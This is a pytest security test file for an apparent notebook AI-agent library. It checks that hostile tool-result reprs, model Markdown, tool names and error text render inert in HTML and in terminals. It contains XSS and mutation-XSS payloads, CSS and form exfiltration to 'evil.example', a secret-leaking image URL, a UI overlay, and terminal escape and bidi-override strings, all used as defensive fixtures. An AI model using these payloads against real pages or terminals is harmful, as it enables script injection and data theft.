"""Attacks on the rendered view and the text forms, from the outside: what a result, the model's text, a
tool's name, arguments, output or error can make the page (or a terminal) do.

Written from the README and the source: a tool result's object is rendered by its own `_repr_html_`
("inspectable results"), the model's text is Markdown, `print(run)` and the headless runner print text.
Every attack checks the page with a real HTML parser (`tests/page_checks.active`), has a control (a
legitimate table or link still renders), and is run once more with its defence turned off, to see it
get through.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd
import pytest

from nbagent import Agent, AssistantMessage, Decision, ScriptedModel, ToolCall, ToolContext, ToolResult, render, tool
from nbagent.messages import ImageBlock, TextBlock
from nbagent.render import markdown as render_markdown
from nbagent.safety import sanitize

from ..page_checks import active

EVIL = "https://evil.example"


class Hostile:
    """An object whose rich repr is whatever a library (or the data it shows) made of it."""

    def __init__(self, markup: str) -> None:
        self.markup = markup

    def _repr_html_(self) -> str:
        return self.markup


def _page(run: Any) -> str:
    """The run's static rendering, less nbagent's own style sheet (which is not under attack)."""
    return run._repr_html_().replace(render._style(), "")


def _run_with(details: Any, text: str = "Here it is.", *, name: str = "fetch", result_text: str = "fetched") -> Any:
    @tool(name=name, read_only=True)
    def fetch(url: str) -> ToolResult:
        """Fetch something."""
        return ToolResult(result_text, details=details)

    model = ScriptedModel([AssistantMessage(text="Fetching.", tool_calls=[ToolCall(name=name, arguments={"url": "x"})]),
                           text])
    return Agent(model=model, tools=[fetch]).run_sync("go")


REPRS = {
    "script": "<script>fetch('/api/kernels')</script><p>ok</p>",
    "onerror": '<img src="x" onerror="alert(1)">',
    "javascript link": '<a href="javascript:alert(document.cookie)">click</a>',
    "svg script": '<svg><script>alert(1)</script><circle onload="alert(1)"/></svg>',
    "css url to a remote host": f'<div style="background:url({EVIL}/leak?d=1)">x</div><style>p{{background:url({EVIL}/y)}}</style>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "base href": f'<base href="{EVIL}/">',
    "form": f'<form action="{EVIL}/steal" method="post"><input name="token" value="x"><button>Approve</button></form>',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "nested mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "iframe": f'<iframe src="{EVIL}/"></iframe>',
    "overlay over the approval buttons": '<div style="position:fixed;inset:0;z-index:99999;background:white">Approved.</div>',
    "css import": f"<style>@import '{EVIL}/x.css';</style>",
}


@pytest.mark.parametrize("name", sorted(REPRS))
def test_a_hostile_repr_is_inert_in_the_rendered_run(name):
    run = _run_with(Hostile(REPRS[name]))
    assert active(_page(run)) == [], name
    assert active(run.calls[0]._repr_html_().replace(render._style(), "")) == []
    assert active(run.calls[0].result._repr_html_().replace(render._style(), "")) == []


@pytest.mark.parametrize("name", sorted(REPRS))
def test_without_the_sanitizer_the_hostile_repr_gets_through(name, monkeypatch):
    monkeypatch.setattr(sanitize, "sanitize_html", lambda markup, **_: markup)
    run = _run_with(Hostile(REPRS[name]))
    assert active(_page(run)), name


def test_a_styler_over_untrusted_strings_renders_its_table_and_runs_nothing():
    df = pd.DataFrame({"city": ["Paris", '<img src=x onerror="alert(1)">'], "sales": [3, 9]})
    styler = df.style.highlight_max(subset=["sales"], color="lightgreen")
    run = _run_with(styler)
    page = _page(run)
    assert active(page) == []
    assert "<td" in page and "Paris" in page and "background-color: lightgreen" in page


def test_control_a_dataframe_still_renders_as_a_table():
    run = _run_with(pd.DataFrame({"a": [1, 2, 3], "b": ["x", "y", "<b>z</b>"]}))
    page = _page(run)
    assert page.count("<tr") >= 4 and 'class="dataframe"' in page and "&lt;b&gt;z&lt;/b&gt;" in page
    assert active(page) == []


def test_a_details_link_is_sanitized_too():
    class Linked:
        def link_html(self) -> str:
            return f'<a href="javascript:alert(1)" onclick="alert(2)">cell</a><img src="{EVIL}/p.png">'

    page = _page(_run_with(Linked()))
    assert active(page) == [] and ">cell</a>" in page


def test_an_image_block_with_a_forged_type_is_not_rendered():
    forged = ImageBlock(b"\x89PNG", mime_type='image/png;base64,AAAA" onerror="alert(1)" x="')
    result = ToolResult([TextBlock("look"), forged])
    page = result._repr_html_().replace(render._style(), "")
    assert active(page) == [] and "is not shown" in page
    good = ToolResult([ImageBlock(b"\x89PNG\r\n\x1a\n", mime_type="image/png")])._repr_html_()
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in good  # control: a real image result shows


# --------------------------------------------------------------------------------------------------
# The model's Markdown
# --------------------------------------------------------------------------------------------------
ANSWER = (f"Done. ![chart]({EVIL}/pixel.png?secret=abc) <img src={EVIL}/x.png onerror=alert(1)> "
          f"<script>alert(1)</script> [the docs](https://docs.example/page) [x](javascript:alert(1))")


def test_model_markdown_loads_nothing_and_renders_no_raw_html():
    page = _page(_run_with(None, text=ANSWER))
    assert active(page) == []
    assert f"{EVIL}/pixel.png?secret=abc" in page  # the image's URL is shown, as a link's text
    assert re.search(r'<a class="nba-md-image" href="https://evil\.example/pixel\.png\?secret=abc"', page)
    assert "&lt;script&gt;" in page and 'href="https://docs.example/page"' in page  # control: a link works


def test_without_the_image_rule_the_markdown_image_loads(monkeypatch):
    import mistune

    monkeypatch.setattr(render_markdown, "_markdown", lambda: mistune.create_markdown(escape=True))
    monkeypatch.setattr(sanitize, "sanitize_html", lambda markup, **_: markup)
    page = _page(_run_with(None, text=ANSWER))
    assert any("pixel.png" in found for found in active(page))


# --------------------------------------------------------------------------------------------------
# Names, arguments, errors, output: escaped in the page, neutral in a terminal
# --------------------------------------------------------------------------------------------------
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m \u202edlrow"


def _noisy_run() -> Any:
    @tool(name="noisy")
    def noisy(text: str, ctx: ToolContext) -> str:
        """Be noisy."""
        ctx.progress(f"step {ESCAPES}", output=f"out {ESCAPES}\n")
        raise RuntimeError(f"<img src=x onerror=alert(1)> {ESCAPES}")

    model = ScriptedModel([AssistantMessage(text=f"Calling {ESCAPES}",
                                            tool_calls=[ToolCall(name="noisy", arguments={"text": ESCAPES})]),
                           f"The end {ESCAPES}"])
    return Agent(model=model, tools=[noisy], approver="allow").run_sync(f"prompt {ESCAPES}")


def _controls(text: str) -> list[str]:
    return [hex(ord(c)) for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f
            or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\ufeff"]


def test_printing_a_run_or_a_record_sends_no_terminal_control_sequence():
    run = _noisy_run()
    assert run.calls[0].status == "error"
    for text in (str(run), str(run.calls[0]), render.run_line_text(run, "cell 1")):
        assert _controls(text) == [], text
        assert "owned" not in text  # the title an OSC sequence would set is gone with it
    assert "red" in str(run) and "⟨U+202E⟩" in str(run)


def test_without_the_neutraliser_print_run_would_carry_the_escapes(monkeypatch):
    monkeypatch.setattr(sanitize, "terminal_safe", lambda text: str(text))
    monkeypatch.setattr(sanitize, "visible", lambda text, **_: (str(text), []))
    assert _controls(str(_noisy_run()))


def test_the_page_escapes_error_text_and_shows_hidden_characters():
    page = _page(_noisy_run())
    assert active(page) == [] and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert _controls(page) == []
    assert "⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩" in page


def test_an_approval_shows_every_character_of_long_arguments_and_warns_of_hidden_ones():
    code = "x = 1\n" * 5000 + "user = 'admin\u202e'  # \u2066looks fine\u2069"
    asked: list[str] = []

    @tool(name="exec_code", destructive=True)
    def exec_code(code: str) -> str:
        """Run code."""
        return "ran"

    def approver(request):
        from nbagent.render import call_inner_html

        asked.append(call_inner_html(request.call, waiting=True))
        return Decision(False)

    model = ScriptedModel([AssistantMessage(tool_calls=[ToolCall(name="exec_code", arguments={"code": code})]), "ok"])
    Agent(model=model, tools=[exec_code], approver=approver).run_sync("go")
    shown = asked[0]
    assert shown.count("x = 1") == 5000 and "more characters" not in shown  # never clipped
    assert "⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩" in shown and "⟨U+2066 LEFT-TO-RIGHT ISOLATE⟩" in shown
    assert "Look closely" in shown and "bidi controls" in shown
    assert "Look closely" not in call_inner_html_plain()  # control: ordinary arguments carry no warning


def call_inner_html_plain() -> str:
    run = _run_with(None)
    return render.call_inner_html(run.calls[0], waiting=True)


def test_a_tool_name_from_elsewhere_is_escaped_and_shown_plainly():
    run = _run_with(None, name="srv__list")
    rec = run.calls[0]
    rec.name = "srv__list\u202e<img src=x onerror=alert(1)>"  # what a server's listing could name it
    html = render.call_inner_html(rec)
    assert active(html) == [] and "⟨U+202E" in html
    assert _controls(render.call_text(rec)) == []


# --------------------------------------------------------------------------------------------------
# The saved notebook: what nbclient executed and saved holds nothing that runs
# --------------------------------------------------------------------------------------------------
@pytest.mark.kernel
def test_an_executed_notebook_s_saved_output_holds_no_script_from_a_result(tmp_path):
    import nbformat

    from nbagent.jupyter.headless import execute_notebook

    from ..jupyter.kernelclient import kernel_env
    from ..jupyter.browser.lab import write_notebook

    setup = f'''import pandas as pd
from nbagent import AssistantMessage, ScriptedModel, ToolCall, ToolResult, tool

class Hostile:
    def _repr_html_(self):
        return {REPRS["onerror"] + REPRS["script"] + REPRS["css url to a remote host"]!r}

@tool(read_only=True)
def fetch(url: str) -> ToolResult:
    """Fetch."""
    return ToolResult("fetched", details=Hostile())

@tool(read_only=True)
def table(n: int) -> pd.DataFrame:
    """A table."""
    return pd.DataFrame({{"name": ["<script>alert(1)</script>", "ok"]}}).style.highlight_max(color="red")

model = ScriptedModel([AssistantMessage(text="![x]({EVIL}/p.png) <script>alert(1)</script>", tool_calls=[
    ToolCall(name="fetch", arguments={{"url": "x"}}), ToolCall(name="table", arguments={{"n": 1}})]), "Done."])
'''
    # the last cell puts the run's static rendering (what replaces the live view when a run ends) in the
    # notebook itself, so the check does not depend on when that replacement reaches nbclient
    show = "from IPython.display import display\ndisplay({'text/html': run._repr_html_()}, raw=True)"
    path = write_notebook(tmp_path / "page.ipynb", ["%load_ext nbagent", setup,
                                                    "run = %agent --model model --tools fetch,table --wait Go", show])
    out = tmp_path / "executed.ipynb"
    execute_notebook(path, output=out, env=kernel_env(tmp_path, NBAGENT_APPROVAL="allow"), timeout=120,
                     kernel_log=tmp_path / "kernel.log")
    cells = nbformat.read(out, as_version=4).cells
    pages = [o["data"]["text/html"] for cell in cells[2:] for o in cell.outputs if "text/html" in o.get("data", {})]
    assert pages, [o.get("data", {}).get("text/plain") for o in cells[3].outputs]
    for page in pages:
        page = page.replace(render._style(), "")
        assert "Done." in page and "<td" in page and "evil.example/p.png" in page  # control: it is all there
        assert active(page) == [], active(page)
        assert "<script" not in page and not re.search(r"<[^>]+\son\w+=", page)


# --------------------------------------------------------------------------------------------------
# Other members of the class: other ways a library's repr carries markup
# --------------------------------------------------------------------------------------------------
def _styler_with_hostile_parts():
    df = pd.DataFrame({'<img src=x onerror="alert(1)">': [1, 2]}, index=["<script>alert(2)</script>", "b"])
    return (df.style.set_caption(f'<iframe src="{EVIL}/"></iframe>caption')
            .set_table_attributes('onmouseover="alert(3)" style="position:fixed;z-index:9999"')
            .set_table_styles([{"selector": "td", "props": f"background-image: url({EVIL}/t.png); color: red"}]))


class TupleRepr:
    """`_repr_html_` may return (html, metadata)."""

    def _repr_html_(self):
        return (f'<img src="{EVIL}/a.png" onerror="alert(1)">tuple', {"isolated": False})


class UnescapedFrame:
    """A repr built with `to_html(escape=False)` over untrusted strings."""

    def _repr_html_(self):
        return pd.DataFrame({"v": ['<a href="javascript:alert(1)">go</a>', "<b>bold</b>"]}).to_html(escape=False)


@pytest.mark.parametrize("details", [_styler_with_hostile_parts, TupleRepr, UnescapedFrame],
                         ids=["styler caption, attributes and styles", "tuple repr", "to_html(escape=False)"])
def test_other_reprs_that_carry_markup_are_inert(details, monkeypatch):
    page = _page(_run_with(details()))
    assert active(page) == [], active(page)
    assert "caption" in page or "tuple" in page or "<b>bold</b>" in page  # control: the content is there
    monkeypatch.setattr(sanitize, "sanitize_html", lambda markup, **_: markup)
    assert active(_page(_run_with(details()))), "without the sanitizer this repr is an attack"
